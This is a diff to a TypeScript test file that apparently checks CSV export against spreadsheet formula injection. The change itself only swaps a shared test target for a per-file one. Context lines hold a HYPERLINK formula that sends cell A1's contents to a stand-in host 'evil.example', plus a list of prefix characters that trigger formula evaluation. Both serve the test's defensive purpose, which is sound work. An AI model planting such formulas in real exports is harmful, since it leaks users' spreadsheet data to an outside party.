@@ -5,9 +5,9 @@ import { withoutApostrophes } from '../app/platform/csv.ts'
 import type { Answer } from './testing/answer.ts'
 import { editor, moderator, prepareCast } from './testing/cast.ts'
 import { csvCells } from './testing/csv-cells.ts'
-import { sharedTarget } from './testing/target.ts'
+import { targetForFile } from './testing/target.ts'
 
-const target = sharedTarget()
+const target = targetForFile()
 
 const formula = `HYPERLINK("https://evil.example/?x="&A1,"Open")`
 const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ',=', ';=', '＝', '＋', '－', '＠']
